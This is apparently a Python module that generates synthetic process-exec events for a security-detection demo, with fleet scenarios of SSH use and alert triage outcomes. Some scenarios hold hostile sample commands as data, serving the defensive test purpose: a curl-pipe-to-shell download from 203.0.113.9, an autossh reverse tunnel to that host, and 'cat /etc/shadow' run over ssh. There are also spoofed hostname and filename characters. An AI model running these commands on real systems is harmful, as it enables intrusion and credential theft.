"""Scenarios of the demo's fleet, and the events that its agents send for them."""

import random
from dataclasses import dataclass
from datetime import datetime
from hashlib import sha256
from typing import Any

from app.demo.event_builders import EVENT_BUILDERS, ProcessStart, build_benign_process


@dataclass(frozen=True, slots=True)
class Scenario:
    """A process that starts `count` times a day in a container.

    `follow_up` is the triage of its first alert: "acknowledge", "exclude", "propose" (an exclusion with
    `reason` and `owner`, active or only proposed), or "VERDICT: REASON" to close it.
    """

    agent: str
    container: str
    image: str
    tag: str
    namespace: str
    host: str
    user: str
    args: tuple[str, ...]
    parent: tuple[str, ...]
    count: int = 1
    follow_up: str | None = None
    reason: str = ""
    owner: str = ""


SCENARIOS = (
    Scenario("fleet-eu", "checkout-7d9f", "shop/checkout", "4.12", "prod", "node-17", "www-data",
          ("autossh", "-M", "0", "-f", "-N", "-R", "0.0.0.0:2222:localhost:22", "-p", "443", "-o",
           "StrictHostKeyChecking=no", "ops@203.0.113.9"),
          ("sh", "-c", "curl -s 203.0.113.9/x | sh"), count=41),
    Scenario("fleet-eu", "etl-nightly-28f", "data/etl", "2026.11", "batch", "node-04", "root",
          ("/usr/sbin/sshd", "-D", "-p", "2022", "-o", "PermitRootLogin=yes"), ("sh",)),
    Scenario("fleet-eu", "web-5c6b", "shop/web", "9.1", "prod", "node-11", "nginx",
          ("ssh", "-i", "/tmp/.k", "deploy@10.42.3.17"), ("bash",), count=3, follow_up="acknowledge"),
    Scenario("ci-runners", "ci-runner-88", "ci/runner", "51", "ci", "node-02", "runner",
          ("ssh", "-o", "BatchMode=yes", "deploy@bastion.corp.example", "uptime"),
          ("node", "/srv/runner/bin/run.js"), count=214, follow_up="propose",
          reason="Runners ask the bastion for its load before a deploy.", owner="build-team"),
    Scenario("cloud-defend", "notebook-ana", "ds/jupyter", "7.3", "ds", "gpu-01", "jovyan",
          ("ssh", "-N", "-D", "127.0.0.1:1080", "ana@gw-eu.example.net"), ("bash",), count=6),
    Scenario("cloud-defend", "argocd-repo-0", "argo/cd", "3.2", "ops", "node-03", "argocd",
          ("ssh", "-p", "7999", "git@git.corp.example", "git-upload-pack 'infra/charts.git'"),
          ("git", "fetch", "origin"), count=120, follow_up="exclude",
          reason="The repo server clones over ssh; documented in OPS-2291.", owner="platform-team"),
    Scenario("fleet-eu", "toolbox-1", "ops/toolbox", "22", "ops", "node-03", "ops",
          ("ssh", "-A", "-J", "jump.corp.example", "ops@10.20.4.17"), ("bash",), count=12),
    Scenario("fleet-eu", "pg-backup-2", "db/backup", "15", "prod", "node-08", "postgres",
          ("ssh", "-l", "rsync", "backup-07.example", "rsync", "--server", "-vlogDtpre.iLsfxC", ".",
           "/srv/pg"), ("rsync", "-a", "/var/lib/pg"), count=96,
          follow_up="benign true positive: Nightly base backup, see RUN-114."),
    Scenario("ci-runners", "build-19ad", "ci/kaniko", "1.24", "ci", "node-02", "root",
          ("ssh", "-V"), ("sh", "./configure"), count=55,
          follow_up="false positive: A configure script looks for the version."),
    Scenario("fleet-eu", "edi-out-3", "fin/edi", "3.3", "fin", "node-21", "edi",
          ("ssh", "-oPort=2222", "-s", "acme@sftp.partner.example", "sftp"),
          ("python3", "/srv/edi/send.py"), count=8),
    Scenario("fleet-eu", "legacy-erp", "fin/erp", "2014", "fin", "node-21", "root",
          ("sshd: erp [priv]",), ("sshd",), count=30),
    Scenario("cloud-defend", "cart-66cd", "shop/cart", "2.8", "prod", "node-12", "app",
          ("ssh", "-o", "UserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no",
           "root@172.17.0.1", "id; cat /etc/shadow"), ("java", "-jar", "cart.jar"), count=2,
          follow_up="true positive: Remote code execution in the cart service, INC-5512."),
    Scenario("falco", "mail-relay-1", "ops/mail", "3.7", "ops", "edge-02", "postfix",
          ("ssh", "-o", "StrictHostKeyChecking=no", "-R", "9000:localhost:25", "ops@198.51.100.23"),
          ("sh",), count=4),
    Scenario("tetragon", "scheduler-0", "data/airflow", "2.9", "data", "node-14", "airflow",
          ("ssh", "etl@warehouse-02.example", "/opt/etl/run.sh --full"),
          ("python3", "/opt/airflow/task.py"), count=24),
    Scenario("tracee", "debug-box", "ops/debug", "1", "staging", "node-19", "root",
          ("/usr/sbin/sshd", "-D", "-p", "2200"), ("sh", "/entrypoint.sh"), count=2),
    Scenario("ci-runners", "deploy-\u202egnp.4f2", "ci/runner", "51", "ci", "node-05", "runner",
          ("ssh", "deploy@b\u0430stion.corp.example", "true"), ("bash",)),
)  # fmt: skip

INVALID_EVENTS = [
    b'{"event":{"category":["process"],"type":["start"]},"process":{"args":["ssh","\xff\xfe"]}}',
    b'{"msg":"hello"}',
    b'{"event":{"category":["process"],"action":"exec"},"process":{"name":"ssh","args":["ssh"',
]

# A rule without %proc.name in its output, so the alert does not name the process.
FALCO_EVENT_WITHOUT_PROCESS_NAME = (
    b'{"hostname":"edge-02","output":"A process in a container","output_fields":{"container.id":'
    b'"5f2c1e0d9b7a","evt.type":"execve","user.name":"root"},"priority":"Notice","rule":'
    b'"Process in a container","source":"syscall","time":"2026-01-01T00:00:00.000000001Z"}'
)

_BENIGN_COMMANDS = (
    ("ls", "-la"), ("curl", "-fsS", "http://127.0.0.1/health"), ("sh", "-c", "date"),
    ("python3", "manage.py", "migrate"), ("cat", "/etc/hosts"), ("node", "server.js"),
    ("pg_isready",), ("git", "status"), ("sleep", "5"), ("nginx", "-t"),
)  # fmt: skip


def build_event(scenario: Scenario, at: datetime, rng: random.Random) -> dict[str, Any]:
    """Build an exec event of `scenario` in its agent's format."""
    if scenario.agent in EVENT_BUILDERS:
        run = ProcessStart(
            args=scenario.args,
            parent=scenario.parent,
            host=scenario.host,
            user=scenario.user,
            container=scenario.container,
            image=scenario.image,
            tag=scenario.tag,
            namespace=scenario.namespace,
            at=at,
            pid=rng.randrange(300, 30_000),
        )
        return EVENT_BUILDERS[scenario.agent](run)
    name = scenario.args[0].rpartition("/")[2].partition(":")[0]
    process = {
        "name": name,
        "executable": f"/usr/{'sbin' if name == 'sshd' else 'bin'}/{name}",
        "args": list(scenario.args),
        "args_count": len(scenario.args),
        "pid": rng.randrange(300, 30_000),
        "entity_id": f"{rng.getrandbits(96):024x}",
        "working_directory": "/srv",
        "interactive": scenario.parent == ("bash",),
        "parent": {"name": scenario.parent[0], "args": list(scenario.parent), "pid": 41},
        "entry_leader": {
            "entry_meta": {"type": "container"},
            "name": "containerd-shim",
            "pid": 1,
            "args": ["containerd-shim"],
        },
    }
    container = {
        "id": sha256(scenario.container.encode()).hexdigest(),
        "name": scenario.container,
        "image": {"name": scenario.image, "tag": [scenario.tag]},
    }
    return _with_envelope(scenario.agent, process, scenario.host, scenario.user, at, rng) | {
        "container": container,
        "orchestrator": {"namespace": scenario.namespace, "resource": {"name": scenario.container}},
    }


def build_benign_event(agent: str, at: datetime, rng: random.Random) -> dict[str, Any]:
    """Build an event of an ordinary process, which matches no rule."""
    args = rng.choice(_BENIGN_COMMANDS)
    if agent in EVENT_BUILDERS:
        return EVENT_BUILDERS[agent](build_benign_process(args, at, rng))
    process = {
        "name": args[0],
        "executable": f"/usr/bin/{args[0]}",
        "args": list(args),
        "pid": rng.randrange(300, 30_000),
        "entity_id": f"{rng.getrandbits(96):024x}",
        "parent": {"name": "sh", "pid": 40},
        "entry_leader": {"entry_meta": {"type": rng.choice(("container", "init", "sshd"))}},
    }
    return _with_envelope("fleet-eu", process, f"node-{rng.randrange(1, 22):02}", "app", at, rng)


def _with_envelope(
    agent: str,
    process: dict[str, Any],
    host: str,
    user: str,
    at: datetime,
    rng: random.Random,
) -> dict[str, Any]:
    event: dict[str, Any] = {
        "category": ["process"],
        "type": ["start"],
        "action": "exec",
        "kind": "event",
        "id": f"{rng.getrandbits(96):024x}",
    }
    envelope: dict[str, Any] = {"@timestamp": at.isoformat(), "user": {"name": user}}
    if agent == "cloud-defend":
        # Cloud Defend sends a list of actions, dotted host fields and no command line.
        event["action"] = ["fork", "exec"]
        return envelope | {
            "event": event,
            "process": process,
            "host.os.type": "linux",
            "host.name": host,
        }
    process["command_line"] = " ".join(process["args"])
    return envelope | {
        "event": event,
        "process": process,
        "host": {"name": host, "os": {"type": "linux", "name": "Linux"}},
        "agent": {"type": "endpoint", "version": "9.2.0"},
        "ecs": {"version": "9.1.0"},
    }
